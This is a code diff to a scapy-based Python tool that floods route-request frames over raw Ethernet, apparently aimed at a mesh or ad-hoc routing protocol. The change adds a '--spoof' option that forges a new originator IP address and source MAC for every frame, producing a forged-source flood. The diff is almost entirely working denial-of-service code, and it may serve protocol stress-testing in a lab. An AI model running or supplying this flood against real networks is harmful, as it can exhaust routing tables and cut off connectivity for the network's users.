@@ -88,6 +88,9 @@ def main(argv: list[str] | None = None) -> None:
     p.add_argument("--orig", type=IPv4Address, required=True)
     p.add_argument("--rate", type=float, default=1000)
     p.add_argument("--seconds", type=float, default=3)
+    p.add_argument(
+        "--spoof", action="store_true", help="a made-up originator and source MAC per frame"
+    )
     a = ap.parse_args(argv)
 
     if a.cmd == "capture":
@@ -96,15 +99,19 @@ def main(argv: list[str] | None = None) -> None:
     sock = conf.L2socket(iface=a.iface)
     src_mac = Path(f"/sys/class/net/{a.iface}/address").read_text().strip()
 
-    def send(packet: bytes) -> None:
-        sock.send(Ether(dst=a.dst_mac, src=src_mac, type=ETHERTYPE) / Raw(packet))
+    def send(packet: bytes, src: str = src_mac) -> None:
+        sock.send(Ether(dst=a.dst_mac, src=src, type=ETHERTYPE) / Raw(packet))
 
     start = time.monotonic()
     sent = 0
     if a.cmd == "rreq-flood":
         period = 1 / a.rate
         while (now := time.monotonic()) < start + a.seconds:
-            send(rreq(a.orig, sent & 0xFFFFFFFF))
+            if a.spoof:  # a forged-source flood: every frame from a new node
+                orig = IPv4Address(int(IPv4Address("10.99.0.1")) + sent)
+                send(rreq(orig, 1), "02:99:" + (sent + 1).to_bytes(4, "big").hex(":"))
+            else:
+                send(rreq(a.orig, sent & 0xFFFFFFFF))
             sent += 1
             lag = start + sent * period - time.monotonic()
             if lag > 0:
